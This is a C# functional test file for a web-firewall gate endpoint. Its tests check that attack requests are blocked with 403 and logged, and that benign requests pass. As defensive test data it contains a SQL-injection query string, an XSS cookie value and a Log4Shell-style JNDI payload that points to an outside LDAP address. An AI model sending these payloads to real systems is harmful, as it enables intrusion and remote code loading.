using System.Net;
using System.Text.Json.Nodes;
using InfiniteSecurity.Domain.Threats;
using InfiniteSecurity.Infrastructure.Persistence;
using InfiniteSecurity.WebApi.FunctionalTests.Infrastructure;
using Microsoft.EntityFrameworkCore;

namespace InfiniteSecurity.WebApi.FunctionalTests.Inspection;

/// <summary>GET /api/v1/gate spoken the way nginx's auth_request speaks it.</summary>
[TestFixtureSource(typeof(TestDatabase), nameof(TestDatabase.Providers))]
public sealed class GateEndpointTests(DatabaseProvider provider) : ServiceFixture(provider)
{
    private HttpClient _gateway = null!;

    protected override bool SignInAdmin => true;

    [OneTimeSetUp]
    public async Task RegisterGateway() => _gateway = await Factory.CreateMachineClientAsync(Admin, "analyze");

    [OneTimeTearDown]
    public void DropGateway() => _gateway.Dispose();

    private static HttpRequestMessage Subrequest(string method, string uri, params (string Name, string Value)[] clientHeaders)
    {
        var request = new HttpRequestMessage(HttpMethod.Get, "/api/v1/gate");
        request.Headers.Add("X-Original-Method", method);
        request.Headers.Add("X-Original-URI", uri);
        request.Headers.Add("X-Original-Host", "shop.test");
        request.Headers.Add("X-Original-Remote-Addr", "198.51.100.7");
        foreach (var (name, value) in clientHeaders)
        {
            request.Headers.TryAddWithoutValidation(name, value);
        }

        return request;
    }

    private async Task<Threat?> StoredFor(HttpResponseMessage response)
    {
        var requestId = Guid.Parse(response.Headers.GetValues("X-InfiniteSecurity-Request-Id").Single());
        return await Factory.QueryAsync(db => db.Threats.SingleOrDefaultAsync(t => t.RequestId == requestId));
    }

    [Test]
    public async Task Attack_in_the_query_is_403_problem_naming_the_winning_rule_and_is_stored_with_the_client_address()
    {
        var response = await _gateway.SendAsync(Subrequest("GET", "/products?id=1%27%20OR%20%27m%27%3D%27m"));
        var text = await response.Content.ReadAsStringAsync();

        Assert.That(response.StatusCode, Is.EqualTo(HttpStatusCode.Forbidden), text);
        Assert.That(response.Content.Headers.ContentType?.MediaType, Is.EqualTo("application/problem+json"));
        var rule = response.Headers.GetValues("X-InfiniteSecurity-Rule").Single();
        var stored = await StoredFor(response);
        Assert.That(stored, Is.Not.Null);
        Assert.Multiple(() =>
        {
            Assert.That(stored!.PatternsMatched.Split(','), Has.Member(rule));
            Assert.That(stored.Category, Is.EqualTo("sql_injection"));
            Assert.That(stored.Blocked, Is.True);
            Assert.That(stored.Locations, Does.Contain("\"query:id\""));
            Assert.That(stored.SourceIp, Is.EqualTo("198.51.100.7"));
            Assert.That(JsonNode.Parse(text)!["status"]!.GetValue<int>(), Is.EqualTo(403));
            Assert.That(text, Does.Not.Contain("OR 'm'='m"), "the answer names the rule, it does not echo the payload");
        });
    }

    [Test]
    public async Task Benign_request_is_204_without_a_rule_and_not_stored()
    {
        var response = await _gateway.SendAsync(Subrequest("GET", "/products?category=shoes&page=2",
            ("User-Agent", "Mozilla/5.0 (X11; Linux x86_64)"), ("Accept", "text/html"), ("Cookie", "theme=dark; lang=en")));

        Assert.That(response.StatusCode, Is.EqualTo(HttpStatusCode.NoContent));
        Assert.That(response.Headers.Contains("X-InfiniteSecurity-Rule"), Is.False);
        Assert.That(await StoredFor(response), Is.Null);
    }

    [Test]
    public async Task Attacks_in_forwarded_client_headers_and_cookies_are_found_where_they_are()
    {
        var inCookie = await _gateway.SendAsync(Subrequest("GET", "/", ("Cookie", "session=abc; pref=%3Cscript%3Ealert(1)%3C%2Fscript%3E")));
        var inAuthorization = await _gateway.SendAsync(Subrequest("GET", "/", ("X-Original-Authorization", "Basic ${jndi:ldap://198.51.100.9/a}")));

        Assert.That(inCookie.StatusCode, Is.EqualTo(HttpStatusCode.Forbidden));
        Assert.That((await StoredFor(inCookie))!.Locations, Does.Contain("\"cookie:pref\""));
        Assert.That(inAuthorization.StatusCode, Is.EqualTo(HttpStatusCode.Forbidden));
        Assert.That((await StoredFor(inAuthorization))!.Locations, Does.Contain("header:Authorization"), "the client's own Authorization, not the gateway's token");
    }

    [Test]
    public async Task Without_the_original_request_line_the_gate_answers_400()
    {
        var request = new HttpRequestMessage(HttpMethod.Get, "/api/v1/gate");
        request.Headers.Add("X-Original-Method", "GET");

        var response = await _gateway.SendAsync(request);
        var body = JsonNode.Parse(await response.Content.ReadAsStringAsync())!;

        Assert.That(response.StatusCode, Is.EqualTo(HttpStatusCode.BadRequest));
        Assert.That(body["errors"]!.AsObject().Select(e => e.Key), Has.Member("X-Original-URI"));
    }

    [Test]
    public async Task Only_tokens_with_the_analyze_scope_may_ask_the_gate()
    {
        using var siem = await Factory.CreateMachineClientAsync(Admin, "siem:read");

        Assert.That((await Anonymous.SendAsync(Subrequest("GET", "/"))).StatusCode, Is.EqualTo(HttpStatusCode.Unauthorized));
        Assert.That((await siem.SendAsync(Subrequest("GET", "/"))).StatusCode, Is.EqualTo(HttpStatusCode.Forbidden));
    }
}
